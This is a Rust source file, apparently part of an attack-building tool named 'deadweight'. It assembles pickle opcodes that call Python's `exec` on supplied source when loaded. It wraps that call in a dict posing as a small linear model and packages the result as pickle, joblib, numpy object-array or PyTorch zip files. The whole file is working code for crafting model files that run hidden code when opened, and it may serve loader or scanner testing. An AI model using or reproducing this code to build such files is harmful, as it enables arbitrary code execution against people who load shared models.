//! What payloads have in common: opcodes that call, and the files of each of Python's loaders around them.

use std::io::{Cursor, Write};

use zip::CompressionMethod;
use zip::write::{SimpleFileOptions, ZipWriter};

use super::{BuildError, Loader, Target};
use crate::pickle::{Assembler, Op};

/// The opcodes that call `module.name` with one text, and leave what it returns.
pub fn call(assembler: &mut Assembler, module: &str, name: &str, argument: &str) {
    assembler.global(module, name).text(argument).op(Op::Tuple1).op(Op::Reduce);
}

/// A text as Python writes it in source. It has no line feed in it and no quote that ends early.
///
/// ```
/// use deadweight::attacks::payload::quoted;
/// assert_eq!(quoted("it's\n"), r"'it\'s\n'");
/// ```
pub fn quoted(text: &str) -> String {
    let mut quoted = String::from("'");
    for character in text.chars() {
        match character {
            '\'' => quoted.push_str("\\'"),
            '\\' => quoted.push_str("\\\\"),
            '\n' => quoted.push_str("\\n"),
            '\r' => quoted.push_str("\\r"),
            '\t' => quoted.push_str("\\t"),
            other => quoted.push(other),
        }
    }
    quoted.push('\'');
    quoted
}

/// A file for one of Python's loaders whose pickle runs Python source when it is loaded, and becomes
/// a dict that looks like a model: `{"coef": [0.5, -0.25], "intercept": <what exec returns>}`.
pub fn program(attack: &'static str, target: Target, source: &str) -> Result<Vec<u8>, BuildError> {
    file(attack, target, |assembler| call(assembler, "builtins", "exec", source))
}

/// A file for one of Python's loaders; its pickle is a dict that looks like a model, and one value in
/// it is what `object` writes.
pub fn file(
    attack: &'static str,
    target: Target,
    object: impl FnOnce(&mut Assembler),
) -> Result<Vec<u8>, BuildError> {
    let failed = |problem: String| BuildError { attack, target: target.id().into(), problem };
    let pickle = model(object).map_err(|error| failed(error.to_string()))?;
    match target {
        Target::Python(Loader::Pickle | Loader::Joblib) => Ok(pickle),
        Target::Python(Loader::Numpy) => Ok(object_array(&pickle)),
        Target::Python(Loader::TorchZip) => {
            archive(&[("archive/data.pkl", &pickle), ("archive/version", b"3\n")])
                .map_err(|error| failed(error.to_string()))
        }
        Target::Format(_) => Err(failed("it is made for Python's loaders".into())),
    }
}

/// The pickle of a dict with the members of a small linear model.
fn model(
    object: impl FnOnce(&mut Assembler),
) -> Result<Vec<u8>, crate::pickle::assemble::AssembleError> {
    let mut assembler = Assembler::new();
    assembler.proto(4).op(Op::EmptyDict).op(Op::Mark);
    assembler.text("coef").op(Op::EmptyList).op(Op::Mark).int(1).int(-2).op(Op::Appends);
    assembler.text("intercept");
    object(&mut assembler);
    assembler.op(Op::SetItems).op(Op::Stop);
    assembler.finish()
}

/// A `.npy` file of dtype object whose one element is what the pickle makes.
pub fn object_array(pickle: &[u8]) -> Vec<u8> {
    npy("|O", "(1,)", pickle)
}

/// A `.npy` file of this dtype and shape, whatever its data is.
/// Source: numpy's format description, version 1.0.
pub fn npy(dtype: &str, shape: &str, data: &[u8]) -> Vec<u8> {
    let mut header = format!("{{'descr': '{dtype}', 'fortran_order': False, 'shape': {shape}, }}");
    // Magic, version and length are ten bytes; with the line feed the whole is a multiple of 64.
    while (10 + header.len() + 1) % 64 != 0 {
        header.push(' ');
    }
    header.push('\n');
    let mut bytes = b"\x93NUMPY\x01\x00".to_vec();
    bytes.extend(u16::try_from(header.len()).unwrap_or(u16::MAX).to_le_bytes());
    bytes.extend(header.as_bytes());
    bytes.extend(data);
    bytes
}

/// A zip archive of stored members, in this order.
pub fn archive(members: &[(&str, &[u8])]) -> zip::result::ZipResult<Vec<u8>> {
    let mut archive = ZipWriter::new(Cursor::new(Vec::new()));
    let options = SimpleFileOptions::default().compression_method(CompressionMethod::Stored);
    for (name, bytes) in members {
        archive.start_file(*name, options)?;
        archive.write_all(bytes)?;
    }
    Ok(archive.finish()?.into_inner())
}
